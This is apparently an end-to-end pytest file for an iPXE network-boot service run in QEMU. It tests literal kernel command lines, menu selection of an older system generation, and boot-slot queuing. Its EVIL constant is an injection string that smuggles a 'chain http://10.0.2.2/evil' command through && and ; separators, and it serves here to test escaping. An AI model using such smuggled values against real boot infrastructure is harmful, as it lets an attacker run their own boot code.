"""Scripts that a real iPXE runs: the menu, with somebody at the keyboard, and the wait."""

from __future__ import annotations

import asyncio
import time
from pathlib import Path

import pytest
from aiohttp import web

from e2e.systems import spec, system
from storeboot.boot.script import refusal_script
from storeboot.protocol import ipxe
from storeboot.serve import server
from storeboot.vm import qemu
from storeboot.vm.trial import HOST, Trial, started

pytestmark = [pytest.mark.e2e, pytest.mark.timeout(1800)]


async def press_until(trial: Trial, key: str, words: str) -> None:
    """A key again and again, as people do, until the console says something."""
    async with asyncio.timeout(300):
        while words not in trial.machine.console_tail(100):
            await trial.emulated.press(key)
            await asyncio.sleep(0.2)


LINE = 'init=/x dyndbg="file x.c +p ;  file y.c +p" || && ; #1 x=${y -- Zoë } $ "quiet'
EVIL = "${ip} x && chain http://10.0.2.2/evil && ; chain http://10.0.2.2/evil ; # ${uuid}"


@pytest.mark.machines
async def test_text_reaches_the_kernels_line_as_it_is_and_has_no_meaning(tmp_path: Path) -> None:
    """`set` joins its words as `kernel` does, so it tells what a kernel would get."""
    script = refusal_script(EVIL).removesuffix("exit 1\n") + (
        f"set line {ipxe.literal(LINE)} || shell\n"
        "chain http://10.0.2.2:${port}/got?line=${line:hexhyp}\n"
    )
    asked: asyncio.Queue[web.Request] = asyncio.Queue()

    async def give(request: web.Request) -> web.Response:
        port = request.url.port
        return web.Response(text=script.replace("${port}", str(port)))

    async def take(request: web.Request) -> web.Response:
        asked.put_nowait(request)
        return web.Response(text="#!ipxe\npoweroff\n")

    app = web.Application()
    app.add_routes([web.get("/boot.ipxe", give), web.get("/{other}", take)])
    runner = web.AppRunner(app)
    await runner.setup()
    try:
        await web.TCPSite(runner, "127.0.0.1", 0).start()
        url = f"http://10.0.2.2:{runner.addresses[0][1]}/boot.ipxe"
        spec = qemu.MachineSpec(url=url, memory=256)
        async with qemu.running(spec, tmp_path, kvm=False):
            async with asyncio.timeout(600):
                first = await asked.get()
    finally:
        await runner.cleanup()
    assert first.path == "/got"
    assert bytes.fromhex(first.query["line"].replace("-", "")).decode() == LINE


@pytest.mark.machines
async def test_a_key_at_the_prompt_and_an_older_generation_of_the_menu(tmp_path: Path) -> None:
    one, two = system(), system(edition=2)
    trial_spec = spec(one, tmp_path / "trial", firmware=True)

    def deploy_another(running: server.Server) -> None:
        inventory = running.service.inventory
        host = inventory.registry.require(HOST)
        inventory.deployments.deploy(host, two.toplevel, inventory.url, print)

    async with started(trial_spec, print, deploy_another) as trial:
        await press_until(trial, "m", "Leave to the firmware")
        await trial.emulated.press("down", "ret")
        boot = await trial.reach("multi-user")
        assert boot.system == one.toplevel.text
        assert trial.service.inventory.deployments.current(HOST) == two.toplevel
        await trial.power_off(boot)


@pytest.mark.machines
async def test_a_machine_waits_for_its_turn_and_gets_it(tmp_path: Path) -> None:
    trial_spec = spec(system(), tmp_path / "trial", firmware=True)

    def power_on_a_room(running: server.Server) -> None:
        places = running.service.turns.hosts
        later = time.time() + 3600  # they do not stall
        assert all(places.admit(f"other{number}", later) for number in range(places.limit()))

    async with started(trial_spec, print, power_on_a_room) as trial:
        await trial.machine.says("32 machines are starting", 300)
        assert trial.boot() is None
        trial.service.turns.leaves("other7")
        boot = await trial.reach("multi-user")
        await trial.power_off(boot)
